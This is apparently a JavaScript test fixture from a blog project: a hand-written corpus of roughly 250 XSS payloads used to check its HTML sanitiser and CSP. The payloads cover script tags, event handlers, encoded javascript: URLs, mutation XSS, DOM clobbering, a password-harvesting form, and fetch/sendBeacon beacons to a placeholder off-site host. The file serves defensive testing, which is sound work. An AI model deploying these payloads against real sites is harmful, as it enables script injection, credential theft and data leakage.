// The project's own XSS corpus for tests/e2e/xss.test.mjs. Written for this
// blog (not copied), covering the classes of attack found in the public
// corpora (DOMPurify's test/fixtures/expect.mjs, the OWASP XSS filter
// evasion cheat sheet, html5sec): script, event handlers, URL schemes and
// their encodings, namespace confusion and mutation XSS, srcdoc and frames,
// plugins, base, meta refresh, forms and formaction, SVG animation, DOM
// clobbering, CSS, templates, and network beacons.
//
// Placeholders, filled per payload by `expand`:
//   {B}  an off-site beacon URL  (https://xssbeacon.invalid/<id>)
//   {R}  an on-site beacon path  (/xssbeacon/<id>)
// Beacons only ever sit where the URL must not survive (a `ping`, a CSS
// `url()`, a refresh target...), never in an allowed `img src`, so any
// request for one is a leak. Execution is detected through alert, confirm,
// prompt and print (replaced before any script runs) and real dialogs.
//
// Each entry: [class, label, html].

/**
 * Marks a payload whose off-site URL is a media address the policy keeps
 * (a video's poster, an audio or track file, a picture's source): the build
 * allows the origins its content loads media from (issue 16), so on a
 * prerendered page that request is the policy, not an escape. Where no build
 * found it (the client-rendered path) the CSP still refuses it.
 */
const MEDIA = "media";

const CLASSES = {
  script: [
    ["plain script", "<script>alert(1)</script>"],
    ["uppercase SCRIPT", "<SCRIPT>alert(2)</SCRIPT>"],
    ["mixed case with attributes", '<ScRiPt type="text/javascript" defer>confirm(3)</sCrIpT>'],
    ["script with remote src", '<script src="{B}"></script>'],
    ["script src without closing tag", "<script src={B}?nc="],
    ["script slash separator", "<script/src=data:,alert(4)></script>"],
    ["script after text, unclosed", "hello<script>prompt(5)"],
    ["script type module", '<script type="module">print()</script>'],
    ["script inside paragraph", "<p>before<script>alert(6)</script>after</p>"],
    ["script split by broken tag", "<scr<script>ipt>alert(7)</scr</script>ipt>"],
    ["script with entity-encoded body", "<script>&#97;lert(8)</script>"],
    ["double open angle", "<<script>alert(9);//<</script>"],
    ["script in table context", "<table><tr><td><script>alert(10)</script></td></tr></table>"],
    ["script for/event (IE)", '<script for="window" event="onload">alert(11)</script>'],
    ["xhtml namespaced script", '<script xmlns="http://www.w3.org/1999/xhtml">alert(12)</script>'],
  ],

  "event-handler": [
    ["img onerror", "<img src=x onerror=alert(20)>"],
    ["img onerror quoted", '<img src="x" onerror="alert(21)">'],
    ["img onerror slash separators", "<img/src=x/onerror=alert(22)>"],
    ["img onerror backtick value", "<img src=x onerror=`alert(23)`>"],
    ["img onerror newline before =", "<img src=x onerror\n=alert(24)>"],
    ["img onerror mixed case", "<IMG SRC=x OnErRoR=confirm(25)>"],
    ["img onload on valid data image", '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=alert(26)>'],
    ["body onload", "<body onload=alert(27)>"],
    ["body onpageshow", "<body onpageshow=alert(28)>"],
    ["svg onload", "<svg onload=alert(29)>"],
    ["svg slash onload", "<svg/onload=prompt(30)>"],
    ["details ontoggle open", "<details open ontoggle=alert(31)><summary>s</summary>x</details>"],
    ["input autofocus onfocus", "<input autofocus onfocus=alert(32)>"],
    ["select autofocus onfocus", "<select autofocus onfocus=alert(33)></select>"],
    ["textarea autofocus onfocus", "<textarea autofocus onfocus=alert(34)></textarea>"],
    ["div tabindex autofocus onfocus", '<div tabindex=1 autofocus onfocus="alert(35)">x</div>'],
    ["a onfocus autofocus tabindex", '<a href="#" autofocus onfocus=alert(36)>x</a>'],
    ["video source onerror", "<video><source onerror=alert(37)></video>"],
    ["audio src onerror", "<audio src=x onerror=alert(38)></audio>"],
    ["video poster onerror", "<video poster=x onerror=alert(39)></video>"],
    ["marquee onstart", "<marquee onstart=alert(40)>m</marquee>"],
    ["p onmouseover", "<p onmouseover=alert(41)>hover</p>"],
    ["span onclick", '<span onclick="alert(42)">click</span>'],
    ["style onload", "<style onload=alert(43)></style>"],
    ["iframe onload", "<iframe onload=alert(44)></iframe>"],
    ["object onerror", "<object data=x onerror=alert(45)></object>"],
    ["img onerror with entity-encoded code", "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#52;&#54;&#41;>"],
    ["img onerror hex entities no semicolons", "<img src=x onerror=&#x61&#x6c&#x65&#x72&#x74&#x28&#x34&#x37&#x29>"],
    ["img onerror via fromCharCode", "<img src=x onerror=eval(String.fromCharCode(97,108,101,114,116,40,52,56,41))>"],
    ["img onerror with unicode escapes", "<img src=x onerror=\\u0061lert(49)>"],
    ["img onerror through throw", "<img src=x onerror=\"window.onerror=alert;throw 50\">"],
    ["img onerror top-level alias", "<img src=x onerror=top['al'+'ert'](51)>"],
    ["table background onerror (legacy)", "<table background=x onerror=alert(52)><tr><td>t</td></tr></table>"],
    ["custom element onfocus autofocus", "<x-foo tabindex=0 autofocus onfocus=alert(53)>x</x-foo>"],
    ["form onsubmit with autofocus button", "<form onsubmit=alert(54)><button autofocus>go</button></form>"],
    ["onanimationstart with keyframes", "<style>@keyframes x{}</style><p style=animation-name:x onanimationstart=alert(55)>a</p>"],
    ["ontransitionend", "<p style=transition:color 1ms ontransitionend=alert(56)>t</p>"],
    ["img onerror in attribute-less quote break", '<img """><script>alert(57)</script>">'],
    ["onbeforetoggle popover", "<div popover id=p onbeforetoggle=alert(58)>p</div><button popovertarget=p autofocus>b</button>"],
    ["onscrollend with autofocus at end", "<div style=overflow:auto;height:10px onscrollend=alert(59)><br><br><br><input autofocus></div>"],
  ],

  "url-scheme": [
    ["a href javascript:", '<a href="javascript:alert(60)">x</a>'],
    ["a href JAVASCRIPT uppercase", "<a href=JAVASCRIPT:alert(61)>x</a>"],
    ["a href vbscript:", '<a href="vbscript:msgbox(62)">x</a>'],
    ["a href data:text/html", '<a href="data:text/html,<script>alert(63)</script>">x</a>'],
    ["a href data base64", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCg2NCk8L3NjcmlwdD4=">x</a>'],
    ["img src javascript:", '<img src="javascript:alert(65)">'],
    ["img src data:svg with script", '<img src="data:image/svg+xml,<svg xmlns=%22http://www.w3.org/2000/svg%22 onload=%22alert(66)%22/>">'],
    ["img srcset javascript candidate", '<img srcset="a.jpg 1x, javascript:alert(67) 2x">'],
    ["img srcset data candidate", '<img srcset="data:image/svg+xml,x 1x">'],
    ["blockquote cite javascript", '<blockquote cite="javascript:alert(68)">q</blockquote>'],
    ["q cite data", '<q cite="data:text/html,x">q</q>'],
    ["del cite vbscript", '<del cite="vbscript:x">d</del>'],
    ["a href blob:", '<a href="blob:https://example.org/uuid">x</a>'],
    ["a href file:", '<a href="file:///etc/passwd">x</a>'],
    ["a href jar-like scheme", '<a href="jar:https://example.org/x.jar!/">x</a>'],
    ["a href view-source", '<a href="view-source:javascript:alert(69)">x</a>'],
    ["iframe src javascript", '<iframe src="javascript:alert(70)"></iframe>'],
    ["embed src javascript", '<embed src="javascript:alert(71)">'],
    ["img dynsrc/lowsrc (legacy)", '<img dynsrc="javascript:alert(72)" lowsrc="javascript:alert(72)">'],
    ["table background javascript", '<table background="javascript:alert(73)"><tr><td>t</td></tr></table>'],
    ["div background attribute", '<div background="javascript:alert(74)">d</div>'],
    ["javascript:// with encoded newline", '<a href="javascript://%0aalert(75)">x</a>'],
    ["a href javascript with comment line", "<a href='javascript://example.org/%0Aalert(76)'>x</a>"],
    ["area href javascript", '<map name=m><area href="javascript:alert(77)" shape=rect coords=0,0,9,9></map>'],
    ["a ping beacon", '<a href="/ok/" ping="{B}">x</a>'],
    ["video poster javascript", '<video poster="javascript:alert(78)"></video>'],
    ["a href mhtml", '<a href="mhtml:https://example.org/x!y">x</a>'],
    ["a href about:blank with script", '<a href="about:blank#<script>alert(79)</script>">x</a>'],
  ],

  "url-encoding": [
    ["decimal entities", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(80)">x</a>'],
    ["decimal entities, zero padded, no semicolons", "<a href=&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(81)>x</a>"],
    ["hex entities, no semicolons", "<a href=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(82)>x</a>"],
    ["named entity colon", '<a href="javascript&colon;alert(83)">x</a>'],
    ["named entity tab inside", '<a href="java&Tab;script:alert(84)">x</a>'],
    ["named entity newline inside", '<a href="java&NewLine;script:alert(85)">x</a>'],
    ["literal tab inside scheme", '<a href="jav\tascript:alert(86)">x</a>'],
    ["literal newline inside scheme", '<a href="jav\nascript:alert(87)">x</a>'],
    ["literal CR inside scheme", '<a href="jav\rascript:alert(88)">x</a>'],
    ["encoded tab &#x09;", '<img src="jav&#x09;ascript:alert(89);">'],
    ["encoded newline &#x0A;", '<img src="jav&#x0A;ascript:alert(90);">'],
    ["encoded CR &#x0D;", '<img src="jav&#x0D;ascript:alert(91);">'],
    ["leading space and meta chars", '<a href=" &#14;  javascript:alert(92)">x</a>'],
    ["leading control char \\u0001", '<a href="\u0001javascript:alert(93)">x</a>'],
    ["control chars inside scheme", '<a href="java\u0003script:alert(94)">x</a>'],
    ["NUL inside scheme", '<a href="java\u0000script:alert(95)">x</a>'],
    ["leading NBSP", "<a href='&#xA0javascript:alert(96)'>x</a>"],
    ["leading line separator", "<a href='\u2028javascript:alert(97)'>x</a>"],
    ["leading ideographic space", "<a href='&#x3000;javascript:alert(98)'>x</a>"],
    ["leading zero-width space", "<a href='&#x200B;javascript:alert(99)'>x</a>"],
    ["percent-encoded scheme (stays relative)", '<a href="%6A%61%76%61%73%63%72%69%70%74:alert(100)">x</a>'],
    ["mixed case entities JaVaScRiPt", '<a href="&#74;a&#86;a&#83;c&#82;i&#80;t:alert(101)">x</a>'],
    ["data with whitespace prefix", '<img src="\r\ndata:image/svg+xml,<svg onload=alert(102)>">'],
    ["srcset with encoded javascript", '<img srcset="&#106;avascript:alert(103) 1x">'],
    ["unquoted backtick wrapped", "<a href=`javascript:alert(104)`>x</a>"],
    ["vbscript uppercase encoded", '<a href="&#86;BSCRIPT:msgbox(105)">x</a>'],
    ["data uppercase with spaces", '<a href="  DATA:text/html,<script>alert(106)</script>">x</a>'],
    ["tab between colon", '<a href="javascript\t:alert(107)">x</a>'],
    ["fullwidth letters (not a scheme)", '<a href="ｊａｖａｓｃｒｉｐｔ:alert(108)">x</a>'],
  ],

  "mutation-namespace": [
    ["svg title style breakout", "<svg></p><style><a id=\"</style><img src=x onerror=alert(110)>\"></svg>"],
    ["math mtext table mglyph style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(111)></style></mglyph></table></mtext></math>"],
    ["math annotation-xml text/html", '<math><annotation-xml encoding="text/html"><style><img src=x onerror=alert(112)></style></annotation-xml></math>'],
    ["svg foreignObject html", "<svg><foreignObject><p><style><p title=\"</style><img src=x onerror=alert(113)>\"></style></foreignObject></svg>"],
    ["noscript comment trick", "<noscript><p title=\"</noscript><img src=x onerror=alert(114)>\"></noscript>"],
    ["noscript in b with comment", "<b><noscript><!-- </noscript><img src=x onerror=alert(115) --></noscript></b>"],
    ["textarea then comment", "<textarea>t</textarea><!--</textarea><img src=x onerror=alert(116)>-->"],
    ["style swallowed img", "<style><img src=\"</style><img src=x onerror=alert(117)//\">"],
    ["title raw text", "<title><img src=\"</title><img src=x onerror=alert(118)>\"></title>"],
    ["xmp raw text", "<xmp><p title=\"</xmp><img src=x onerror=alert(119)>\"></xmp>"],
    ["noembed raw text", "<noembed><img title=\"</noembed><img src=x onerror=alert(120)>\"></noembed>"],
    ["noframes raw text", "<noframes><img title=\"</noframes><img src=x onerror=alert(121)>\"></noframes>"],
    ["iframe raw text", "<iframe><img title=\"</iframe><img src=x onerror=alert(122)>\"></iframe>"],
    ["listing entity text", "<listing>&lt;img src=x onerror=alert(123)&gt;</listing>"],
    ["svg CDATA breakout", "<svg><![CDATA[><img src=x onerror=alert(124)>]]></svg>"],
    ["math style", "<math><style><img src=x onerror=alert(125)></style></math>"],
    ["form math mtext nesting", "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(126)>"],
    ["svg desc noscript fake element", "x<svg><xss><desc><noscript>&lt;/noscript>&lt;img src=x onerror=alert(127)&gt;</noscript></desc></xss></svg>"],
    ["select template", "<select><template><img src=x onerror=alert(128)></template></select>"],
    ["nested templates", "<template><s><template><img src=x onerror=alert(129)></template></s></template>"],
    ["comment bang close", "<!--><img src=x onerror=alert(130)>-->"],
    ["comment --!> close", "<!-- x --!><img src=x onerror=alert(131)>"],
    ["bogus comment with PI", "<? x=\"><img src=x onerror=alert(132)>\">"],
    ["conditional comment", "<!--[if gte IE 4]><script>alert(133)</script><![endif]-->"],
    ["attribute name with slash", "<img src=x id/=' onerror=alert(134)//'>"],
    ["svg in p with img after end", "<svg><p><style><g title=\"</style><img src=x onerror=alert(135)>\"></g></style></p></svg>"],
    ["plaintext swallows all", "<plaintext><img src=x onerror=alert(136)>"],
    ["unclosed comment to end", "<!--<img src=x onerror=alert(137)>"],
    ["math href (MathML links)", '<math href="javascript:alert(138)"><mi>x</mi></math>'],
    ["svg:script prefix", "<svg:script>alert(139)</svg:script>"],
    ["option style select breakout", "<option><style></option></select><b><img src=x onerror=alert(140)></style></option>"],
  ],

  "parser-quirk": [
    ["unterminated img tag", "<img src=x onerror=alert(141)//"],
    ["half-open attribute", '<img src="x onerror=alert(142)'],
    ["quote encapsulation", "<img \"\"\"><script>alert(143)</script>\">"],
    ["grave accent attribute", "<img src=`x`onerror=alert(144)>"],
    ["extraneous open brackets", "<<img src=x onerror=alert(145)//<</img>"],
    ["end title tag break", "</title><script>alert(146)</script>"],
    ["end textarea break", "</textarea><img src=x onerror=alert(147)>"],
    ["end style break", "</style><img src=x onerror=alert(148)>"],
    ["end script break", "</script><img src=x onerror=alert(149)>"],
    ["non-alpha separator in tag", "<img/\"/src=x/onerror=alert(150)>"],
    ["null byte in tag name", "<scr\u0000ipt>alert(151)</scr\u0000ipt>"],
    ["form feed separators", "<img\fsrc=x\fonerror=alert(152)>"],
    ["vertical tab separator", "<img\u000Bsrc=x\u000Bonerror=alert(153)>"],
    ["isindex legacy", '<isindex type=image src=x onerror=alert(154)>'],
    ["image element alias", "<image src=x onerror=alert(155)>"],
    ["deeply nested wrapper", "<div>".repeat(90) + "<img src=x onerror=alert(156)><script>alert(156)</script>" + "</div>".repeat(90)],
    ["doctype and entity declaration", '<!DOCTYPE x [<!ENTITY x "<img src=x onerror=alert(157)>">]><y>&x;</y>'],
    ["xml processing instruction stylesheet", '<?xml-stylesheet href="javascript:alert(158)"?><root/>'],
  ],

  "srcdoc-frames": [
    ["iframe srcdoc script", '<iframe srcdoc="<script>parent.alert(160)</script>"></iframe>'],
    ["iframe srcdoc entity-encoded", '<iframe srcdoc="&lt;img src=x onerror=alert(161)&gt;"></iframe>'],
    ["iframe srcdoc on allowed tag", '<p srcdoc="<script>alert(162)</script>">p</p>'],
    ["iframe src data html", '<iframe src="data:text/html,<script>alert(163)</script>"></iframe>'],
    ["iframe beacon", '<iframe src="{B}"></iframe>'],
    ["frameset onload", "<frameset onload=alert(164)><frame src=x></frameset>"],
    ["frame src javascript", '<frame src="javascript:alert(165)">'],
    ["portal element", '<portal src="{B}"></portal>'],
    ["fencedframe element", '<fencedframe src="{B}"></fencedframe>'],
  ],

  plugins: [
    ["object data html", '<object data="data:text/html,<script>alert(170)</script>"></object>'],
    ["object type svg", '<object type="image/svg+xml" data="data:image/svg+xml,<svg onload=alert(171) xmlns=%22http://www.w3.org/2000/svg%22/>"></object>'],
    ["object beacon", '<object data="{B}"></object>'],
    ["embed data svg", '<embed src="data:image/svg+xml,<svg onload=alert(172) xmlns=%22http://www.w3.org/2000/svg%22/>">'],
    ["embed beacon", '<embed src="{B}" type="text/html">'],
    ["applet", '<applet code="x" codebase="{B}"></applet>'],
    ["object param", '<object><param name="src" value="javascript:alert(173)"></object>'],
    ["bgsound", '<bgsound src="javascript:alert(174)">'],
  ],

  base: [
    ["base href javascript", '<base href="javascript:alert(180)//"><a href="/x">x</a>'],
    ["base href beacon", '<base href="{B}/"><img src="rel.png">'],
    ["base target", '<base target="_blank"><a href="/x">x</a>'],
    ["base in head", '<head><base href="{B}/"></head><p>p</p>'],
    ["base after content", '<p>p</p><base href="{B}/"><img src=y>'],
  ],

  "meta-refresh": [
    ["meta refresh javascript", '<meta http-equiv="refresh" content="0;url=javascript:alert(190)">'],
    ["meta refresh data", '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxOTEpPC9zY3JpcHQ+">'],
    ["meta refresh beacon", '<meta http-equiv="refresh" content="0; url={B}">'],
    ["meta refresh extra url param", '<meta http-equiv="refresh" content="0; URL=http://;URL=javascript:alert(192);">'],
    ["meta set-cookie", '<meta http-equiv="Set-Cookie" content="xss=1">'],
    ["meta csp downgrade", "<meta http-equiv=\"content-security-policy\" content=\"script-src 'unsafe-inline'\">"],
    ["meta charset utf-7", '<meta charset="utf-7">+ADw-script+AD4-alert(193)+ADw-/script+AD4-'],
    ["meta referrer", '<meta name="referrer" content="unsafe-url">'],
  ],

  "form-formaction": [
    ["form action javascript", '<form action="javascript:alert(200)"><input type=submit autofocus></form>'],
    ["button formaction", '<form><button formaction="javascript:alert(201)" autofocus>x</button></form>'],
    ["input formaction", '<form><input type=submit formaction="javascript:alert(202)" value=go></form>'],
    ["button form attribute to outer form", '<form id=f></form><button form=f formaction="javascript:alert(203)">x</button>'],
    ["form beacon auto-submit", '<form action="{B}" method=post><input name=a value=b></form>'],
    ["image input", '<input type="image" src="javascript:alert(204)">'],
    ["password harvester", '<form action="{B}"><label>Password<input type=password name=p></label></form>'],
    ["formaction on allowed tag", '<p formaction="javascript:alert(205)">p</p>'],
    ["input dirname", '<form><input name=a dirname=password value=x></form>'],
    ["textarea credentials", '<textarea name=comment>x</textarea>'],
  ],

  "svg-animation": [
    ["set onmouseover", '<svg><set attributeName="onmouseover" to="alert(210)"/></svg>'],
    ["animate href to javascript", '<svg><a><animate attributeName="href" values="javascript:alert(211)"/><text y=20>x</text></a></svg>'],
    ["set xlink:href", '<svg><a xlink:href="?"><set attributeName="xlink:href" to="javascript:alert(212)"/><text y=20>x</text></a></svg>'],
    ["animate from javascript", '<svg><a xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="?"><circle r=40></circle><animate attributeName="xlink:href" begin="0" from="javascript:alert(213)" to="&"/></a></svg>'],
    ["animate onbegin", '<svg><animate onbegin="alert(214)" attributeName=x dur=1s></svg>'],
    ["animatetransform onbegin", '<svg><animateTransform onbegin="alert(215)" attributeName=transform type=scale from=1 to=2 dur=1s></svg>'],
    ["set onend", '<svg><set onend="alert(216)" attributeName=x to=1 dur=1ms></svg>'],
    ["feImage set data", '<svg><feImage><set attributeName="href" to="data:image/svg+xml,<svg onload=alert(217)>"/></feImage></svg>'],
    ["use href data", '<svg><use href="data:image/svg+xml,<svg id=%22x%22 xmlns=%22http://www.w3.org/2000/svg%22><image href=%221%22 onerror=%22alert(218)%22/></svg>#x"/></svg>'],
    ["svg script element", "<svg><script>alert(219)</script></svg>"],
    ["svg handler ev:event", '<svg xmlns:ev="http://www.w3.org/2001/xml-events"><handler ev:event="load">alert(220)</handler></svg>'],
    ["svg image beacon", '<svg><image href="{B}"/></svg>'],
  ],

  "dom-clobbering": [
    ["img name=cookie", "<img src=x name=cookie>"],
    ["a id=location", "<a id=location href=\"/x\">l</a>"],
    ["form name=getElementById", "<form name=getElementById></form>"],
    ["img name=createElement", "<img name=createElement><img id=createElement>"],
    ["a id=defaultView pair", "<a id=defaultView></a><a id=defaultView name=x href=\"javascript:alert(230)\"></a>"],
    ["form input name=attributes", '<form><input name="attributes"><input name="attributes"></form>'],
    ["form input name=parentNode", "<form onsubmit=alert(231)><input name=parentNode>x</form>"],
    ["embed name=body", "<embed name=body>"],
    ["image name=activeElement", "<image name=activeElement>"],
    ["id named like app config", '<p id="blog-config">{"apiBase":"{B}"}</p>'],
    ["name=querySelector", "<img name=querySelector><img name=querySelectorAll>"],
    ["id=__proto__ and constructor", "<b id=__proto__>a</b><i id=constructor>b</i>"],
    ["clobbered form elements", '<form id=x><input id=y name=action></form>'],
    ["iframe name window", '<iframe name=self src="{R}"></iframe>'],
    ["object name top", "<object name=top></object>"],
  ],

  css: [
    ["style element import beacon", "<style>@import '{B}';</style>"],
    ["style attribute background beacon", '<p style="background:url({B})">p</p>'],
    ["style attribute expression (IE)", '<p style="width:expression(alert(240))">p</p>'],
    ["style list-style-image javascript", '<ul><li style="list-style-image:url(javascript:alert(241))">x</li></ul>'],
    ["link stylesheet beacon", '<link rel="stylesheet" href="{B}">'],
    ["link prefetch beacon", '<link rel="prefetch" href="{R}">'],
    ["link import", '<link rel="import" href="{B}">'],
    ["style attribute overlay", '<a href="/x" style="position:fixed;inset:0;z-index:9999">overlay</a>'],
    ["style content url beacon", '<div style="content:url({B})">d</div>'],
    ["style element font-face beacon", "<style>@font-face{font-family:z;src:url({B})}p{font-family:z}</style><p>p</p>"],
    ["style behavior (IE)", '<p style="behavior:url(#default#time2)" onbegin="alert(242)">p</p>'],
    ["style with escaped url", '<p style="background:\\75 rl({B})">p</p>'],
  ],

  template: [
    ["template content script", "<template><script>alert(250)</script></template>"],
    ["template shadowrootmode", '<div><template shadowrootmode="open"><img src=x onerror=alert(251)></template></div>'],
    ["template shadowroot legacy", '<div><template shadowroot="open"><script>alert(252)</script></template></div>'],
    ["slot element", '<slot name="x"><img src=x onerror=alert(253)></slot>'],
    ["custom element is attribute", '<p is="x-evil" onclick="alert(254)">p</p>'],
  ],

  beacon: [
    ["img src beacon only via srcset with bad scheme", '<img srcset="{B} 1x, javascript:x 2x">'],
    ["link preload", '<link rel="preload" as="image" href="{R}">'],
    ["link dns-prefetch", '<link rel="dns-prefetch" href="{B}">'],
    ["video poster beacon", '<video poster="{B}"></video>', MEDIA],
    ["audio src beacon", '<audio src="{B}" autoplay></audio>', MEDIA],
    ["input image beacon", '<input type="image" src="{B}">'],
    ["track beacon", '<video><track src="{B}" default></video>', MEDIA],
    ["source srcset beacon", '<picture><source srcset="{B}"><img src=x></picture>', MEDIA],
    ["body background beacon", '<body background="{B}">'],
    ["table background beacon", '<table background="{B}"><tr><td>t</td></tr></table>'],
    ["td background beacon", '<table><tr><td background="{B}">t</td></tr></table>'],
    ["fetch in script", "<script>fetch('{B}')</script>"],
    ["image beacon from handler", "<img src=x onerror=\"new Image().src='{B}'\">"],
    ["sendBeacon from handler", "<img src=x onerror=navigator.sendBeacon('{B}')>"],
    ["a ping relative", '<a href="#" ping="{R}">p</a>'],
  ],
};


/** The flat corpus: `{ id, cls, label, html, media }`, ids 1..N, placeholders filled. */
export function expand(beaconHost = "https://xssbeacon.invalid") {
  const out = [];
  for (const [cls, entries] of Object.entries(CLASSES)) {
    for (const [label, html, kind] of entries) {
      const id = out.length + 1;
      out.push({
        id,
        cls,
        label,
        media: kind === MEDIA,
        html: html.replaceAll("{B}", `${beaconHost}/${id}`).replaceAll("{R}", `/xssbeacon/${id}`),
      });
    }
  }
  return out;
}

/** How many payloads each class has. */
export function classSizes() {
  return Object.fromEntries(Object.entries(CLASSES).map(([cls, entries]) => [cls, entries.length]));
}

export const BEACON_MARKER = "xssbeacon";
